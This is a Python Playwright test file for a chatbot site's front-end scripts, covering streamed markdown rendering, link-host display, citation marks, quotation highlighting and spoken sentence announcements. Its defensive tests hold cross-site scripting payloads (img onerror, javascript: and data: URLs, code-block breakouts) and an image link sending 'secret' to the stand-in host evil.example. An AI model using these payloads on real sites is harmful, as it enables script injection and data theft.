"""What the pages' own scripts make of an answer: the modules themselves, in a browser."""

import pytest
from playwright.sync_api import Page

# Draws a growing text letter by letter, as a stream would, and tells what stands there.
STREAMED = """
async (text) => {
  const { createRenderer } = await import("/static/js/core/markdown.js");
  const target = document.body.appendChild(document.createElement("div"));
  const render = createRenderer(target);
  for (let end = 1; end <= text.length; end += 1) render(text.slice(0, end));
  render(text, { final: true });
  return target.innerHTML;
}
"""
# Draws a long text as it grows; how many elements that made.
LABOUR = """
async (blocks) => {
  const { createRenderer } = await import("/static/js/core/markdown.js");
  const target = document.body.appendChild(document.createElement("div"));
  const render = createRenderer(target);
  let made = 0;
  let text = "";
  const first = [];
  for (const block of blocks) {
    for (const word of block.split(/(?<= )/)) {
      render((text += word));
      first.push(target.firstChild);
    }
  }
  const { createElement } = document;
  document.createElement = (name) => { made += 1; return createElement.call(document, name); };
  render(text + " And on.");
  delete document.createElement;
  return [target.childElementCount, made, new Set(first.slice(-500)).size];
}
"""
SPOKEN = """
async ([growing, whole]) => {
  const { createAnnouncer } = await import("/static/js/core/chat.js");
  const region = document.createElement("div");
  const announcer = createAnnouncer(region);
  const said = () => [...region.children].map((paragraph) => paragraph.textContent);
  const heard = growing.map((text) => { announcer.follow(text); return said().length; });
  announcer.finish(whole);
  return [heard, said()];
}
"""
FINISHED = """
async (html) => {
  const { drawAnswer } = await import("/static/js/core/markdown.js");
  const target = document.body.appendChild(document.createElement("div"));
  drawAnswer(target, { html });
  return target.innerHTML;
}
"""
HIGHLIGHTED = """
async ([text, parts]) => {
  const { highlighted } = await import("/static/js/pages/playground_parts.js");
  const target = document.createElement("p");
  target.append(...highlighted(text, parts));
  return [target.textContent, [...target.querySelectorAll("mark")].map((mark) => mark.textContent)];
}
"""


@pytest.fixture(scope="module")
def window(browser, product_url):
    context = browser.new_context(bypass_csp=True)  # The page did not name these imports itself.
    page = context.new_page()
    page.goto(f"{product_url}/accounts/login/")
    page.evaluate("() => { window.alert = () => { window.acted = 1; }; }")
    yield page
    context.close()


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See [our prices](https://evil.example/x).", "</a> (evil.example)."),
        ("[bank.example](https://evil.example)", "</a> (evil.example)"),
        ("[bank.example](https://bank.example@evil.example/)", "</a> (evil.example)"),
    ],
)
def test_a_streamed_link_tells_its_host(window: Page, text, shown):
    assert shown in window.evaluate(STREAMED, text)


@pytest.mark.parametrize(
    "text", ["[shop.example/a](https://shop.example/a)", "<https://shop.example/a>"]
)
def test_a_streamed_host_is_not_said_twice(window: Page, text):
    assert "(" not in window.evaluate(STREAMED, text)


@pytest.mark.parametrize(
    "text",
    [
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/?q=secret)",
        "[x](javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "`</code><script>alert(1)</script>`",
        "```\n</pre><img src=x onerror=alert(1)>\n```",
    ],
)
def test_streamed_text_cannot_act(window: Page, text):
    html = window.evaluate(STREAMED, text)
    assert "<img" not in html and "<script" not in html
    assert 'href="javascript' not in html and 'href="data' not in html
    assert window.evaluate("window.acted") is None


def test_the_pages_keep_the_marks_of_the_server_and_nothing_beside(window: Page):
    mark = '<sup class="unsupported" onclick="alert(1)" style="x" title="Buy!">?</sup>'
    html = window.evaluate(FINISHED, f"<p>Blue.{mark} <img src=x onerror=alert(1)></p><sup>2</sup>")
    assert html.count('title="No source says this"') == 1 and 'role="img"' in html
    assert not any(word in html for word in ("onclick", "style", "Buy!", "<img"))
    assert "<sup>2</sup>" in html


@pytest.mark.parametrize(
    ("text", "spans", "marked"),
    [
        ("One. Two. Three.", [(5, 9)], ["Two."]),
        ("🥐🥐 One. 🐕 Two.", [(3, 7), (8, 14)], ["One.", "🐕 Two."]),
        ("One. Two.", [(0, 9), (5, 9)], ["One. Two."]),
        ("One. Two.", [(5, 9), (0, 6)], ["One. T", "wo."]),
    ],
)
def test_quotations_are_marked_to_the_letter(window: Page, text, spans, marked):
    parts = [{"start": start, "end": end} for start, end in spans]
    assert window.evaluate(HIGHLIGHTED, [text, parts]) == [text, marked]


def test_a_long_answer_costs_no_more_than_its_last_block(window: Page):
    blocks = [f"Paragraph **{number}** of many words.\n\n" for number in range(300)]
    count, made, firsts = window.evaluate(LABOUR, blocks)
    assert count == 301 and made == 1 and firsts == 1


@pytest.mark.parametrize(
    "text",
    [
        "One.\n\nTwo **bold\nmore** words.\n\n- a\n- b\n  - c\nstill c\n\n1. x\n2. y",
        "```\ncode\n\nmore\n```\nAfter [1].\n# Head\n> quote\n> on\n\nEnd.",
        "One\n- a\n- b\nTwo\n\n\n\nThree\n~~~\nopen",
    ],
)
def test_a_text_that_grew_stands_as_if_it_came_at_once(window: Page, text):
    at_once = """
    async (text) => {
      const { drawAnswer } = await import("/static/js/core/markdown.js");
      const target = document.createElement("div");
      drawAnswer(target, { content: text });
      return target.innerHTML;
    }
    """
    assert window.evaluate(STREAMED, text) == window.evaluate(at_once, text)


def test_an_answer_is_spoken_by_sentences_and_none_twice(window: Page):
    growing = [
        "We are",
        "We are open. On",
        "We are open. On Sunday [1]. It",
        "We are open. On Sunday [1]. It is",
    ]
    heard, said = window.evaluate(SPOKEN, [growing, "We are open. On Sunday [2]. It is quiet."])
    assert heard == [0, 1, 2, 2]
    assert said == ["We are open.", "On Sunday.", "It is quiet."]


def test_a_draft_that_lost_a_sentence_is_spoken_once_it_stands(window: Page):
    """A strict chatbot's draft is not followed: its sentences are held against the sources."""
    _, said = window.evaluate(SPOKEN, [[], "We are open. It is **quiet** [1].\n- Come in"])
    assert said == ["We are open.", "It is quiet.", "- Come in"]
